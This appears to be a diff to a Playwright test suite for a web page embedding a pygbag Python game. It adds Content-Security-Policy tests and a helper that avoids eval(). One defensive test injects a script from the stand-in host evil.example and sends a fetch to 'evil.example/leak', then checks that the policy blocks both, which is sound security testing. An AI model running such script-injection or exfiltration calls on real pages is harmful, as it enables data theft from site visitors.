@@ -13,6 +13,7 @@ import http.server
 import subprocess
 import sys
 import threading
+import time
 from pathlib import Path
 
 import pytest
@@ -125,6 +126,17 @@ def page_at(browser):
 # Resolves after the page has drawn two more frames: what a key press or a focus change does to
 # scrolling and focus is visible by then.
 NEXT_FRAMES = "() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))"
+
+
+def wait_js(pg, expression: str, timeout: float = 5_000) -> None:
+    """page.wait_for_function without eval() (the article page's policy runs no script at all):
+    the page itself checks `expression` on every animation frame and answers once it holds."""
+    held = pg.evaluate(
+        "() => new Promise(resolve => { const t0 = performance.now(); const check = () => { "
+        f"if ({expression}) resolve(true); "
+        f"else if (performance.now() - t0 > {timeout}) resolve(false); "
+        "else requestAnimationFrame(check); }; check(); })")
+    assert held, f"timed out waiting for {expression}"
 
 
 def stand_in_runtime(pg, body: str = STAND_IN_LOADER) -> None:
@@ -346,7 +358,7 @@ def test_loaded_game_never_takes_the_keyboard_from_the_article(site: str, page_a
     before = pg.evaluate("scrollY")
     pg.keyboard.press("PageDown")
     pg.keyboard.press("Space")
-    pg.wait_for_function(f"scrollY > {before} + 300", timeout=5_000)
+    wait_js(pg, f"scrollY > {before} + 300", timeout=5_000)
     # The keys did not reach the game: it is still waiting for its click.
     assert frame.locator("#boot").get_attribute("data-state") == "ready"
 
@@ -361,11 +373,11 @@ def test_mouse_wheel_over_the_game_scrolls_the_article(site: str, page_at) -> No
     frame.wait_for_selector("#start:visible", timeout=30_000)
     for phase in ("loading screen", "running game"):
         pg.evaluate("window.scrollTo(0, 200)")
-        pg.wait_for_function("scrollY === 200", timeout=5_000)
+        wait_js(pg, "scrollY === 200", timeout=5_000)
         box = frame_el.bounding_box()
         pg.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
         pg.mouse.wheel(0, 300)
-        pg.wait_for_function("scrollY > 400", timeout=5_000)  # fails here if the frame keeps the wheel
+        wait_js(pg, "scrollY > 400", timeout=5_000)  # fails here if the frame keeps the wheel
         if phase == "loading screen":
             frame.click("#start")
             frame.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
@@ -405,11 +417,102 @@ def test_hovering_the_game_after_leaving_it_keeps_the_keyboard_in_the_article(si
     assert frame.evaluate("window.__refocused || 0") == 0
     before = pg.evaluate("scrollY")
     pg.keyboard.press("PageDown")
-    pg.wait_for_function(f"scrollY > {before} + 300", timeout=5_000)
+    wait_js(pg, f"scrollY > {before} + 300", timeout=5_000)
     # A click still gives the game the keyboard.
     frame.click("#canvas")
     assert pg.evaluate("document.activeElement.tagName") == "IFRAME"
     assert frame.evaluate("document.activeElement.id") == "canvas"
+
+
+# --- Content-Security-Policy: the page and what pygbag's runtime does, nothing else --------
+
+RECORD_VIOLATIONS = """
+window.__csp = [];
+document.addEventListener("securitypolicyviolation", e => {
+  window.__csp.push(e.violatedDirective + " " + (e.blockedURI || "inline"));
+});
+"""
+
+# Does what pygbag's loader and interpreter do in the browser: add a script element from the
+# runtime's CDN (the interpreter's main.js), compile WebAssembly, run JavaScript through eval()
+# (Python's platform.window bridge), fetch the game archive from this site and the package
+# index from the CDN, play audio from a blob, then carry on like the stand-in loader.
+RUNTIME_PROBE = """
+window.__probe = {};
+const cdn = document.getElementById("site").src.replace(/pythons\\.js.*$/, "");
+const s = document.createElement("script");
+s.src = cdn + "cpython312/main.js";
+s.onload = () => { window.__probe.mainjs = window.__mainjs === true; };
+s.onerror = () => { window.__probe.mainjs = false; };
+document.head.appendChild(s);
+WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
+  .then(() => { window.__probe.wasm = true; }, () => { window.__probe.wasm = false; });
+try { window.__probe.eval = eval("6 * 7") === 42; } catch (e) { window.__probe.eval = false; }
+fetch("vram-tetris.tar.gz").then(r => r.arrayBuffer()).then(b => { window.__probe.archive = b.byteLength > 1000; },
+                                                          () => { window.__probe.archive = false; });
+fetch(cdn.replace(/cdn\\/.*$/, "") + "archives/repo/index.json").then(r => r.json())
+  .then(j => { window.__probe.index = j.ok === true; }, () => { window.__probe.index = false; });
+const a = new Audio(URL.createObjectURL(new Blob([new Uint8Array(64)], { type: "audio/ogg" })));
+a.load();
+window.__probe.audio = true;
+""" + STAND_IN_LOADER
+
+
+def test_page_carries_a_content_security_policy(site: str, page_at) -> None:
+    pg = page_at(680)
+    pg.goto(f"{site}/index.html", wait_until="commit")
+    csp = pg.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
+    assert "object-src 'none'" in csp and "base-uri 'self'" in csp
+    script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src")).split()
+    hosts = [t for t in script_src[1:] if not t.startswith("'")]
+    assert hosts == ["https://pygame-web.github.io"], script_src  # the runtime's CDN only
+    embed = page_at(680)
+    embed.goto(f"{site}/embed.html", wait_until="commit")
+    assert "script-src 'none'" in embed.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
+
+
+def test_runtime_works_under_the_policy(site: str, page_at) -> None:
+    pg = page_at(680)
+    pg.add_init_script(RECORD_VIOLATIONS)
+    pg.route("**/pythons.js", lambda route: route.fulfill(status=200, content_type="application/javascript", body=RUNTIME_PROBE))
+    pg.route("**/cpython312/main.js", lambda route: route.fulfill(status=200, content_type="application/javascript", body="window.__mainjs = true;"))
+    pg.route("**/archives/repo/index.json", lambda route: route.fulfill(status=200, content_type="application/json", body='{"ok": true}'))
+    pg.goto(f"{site}/index.html")
+    pg.wait_for_function("window.__probe && ['mainjs', 'wasm', 'eval', 'archive', 'index', 'audio']"
+                         ".every(k => k in window.__probe)", timeout=20_000)
+    assert pg.evaluate("window.__probe") == {k: True for k in ("mainjs", "wasm", "eval", "archive", "index", "audio")}
+    pg.wait_for_selector("#start:visible", timeout=20_000)  # the inline onload handler ran
+    pg.click("#start")
+    pg.wait_for_selector("#boot[data-state=running]", state="attached", timeout=10_000)
+    assert pg.evaluate("window.__csp") == []
+    pg.screenshot(path=str(OUT / "browser-csp-running-680x600.png"))
+
+
+def test_runtime_unavailable_path_works_under_the_policy(site: str, page_at) -> None:
+    pg = page_at(360)
+    pg.add_init_script(RECORD_VIOLATIONS)
+    pg.goto(f"{site}/index.html")
+    pg.wait_for_selector("#boot[data-state=failed]", timeout=40_000)
+    assert "Python runtime unavailable" in pg.inner_text("#error")
+    assert pg.locator("#error button", has_text="Reload").is_visible()
+    assert pg.evaluate("window.__csp") == []
+
+
+def test_policy_blocks_what_the_runtime_does_not_need(site: str, page_at) -> None:
+    """The policy is enforced: a script from another host or a plugin never loads."""
+    pg = page_at(680)
+    pg.add_init_script(RECORD_VIOLATIONS)
+    stand_in_runtime(pg)
+    pg.route("https://evil.example/**", lambda route: route.fulfill(status=200, content_type="application/javascript", body="window.__evil = true;"))
+    pg.goto(f"{site}/index.html")
+    pg.evaluate("""() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js';
+        document.head.appendChild(s);
+        fetch('https://evil.example/leak').catch(() => {}); }""")
+    pg.wait_for_function("window.__csp.length >= 2", timeout=10_000)
+    assert pg.evaluate("window.__evil") is None
+    violations = pg.evaluate("window.__csp")
+    assert any(v.startswith("script-src") and "evil.example" in v for v in violations), violations
+    assert any(v.startswith("connect-src") and "evil.example" in v for v in violations), violations
 
 
 @pytest.mark.parametrize("width,expected", [(360, "portrait"), (412, "portrait"), (680, "landscape")])
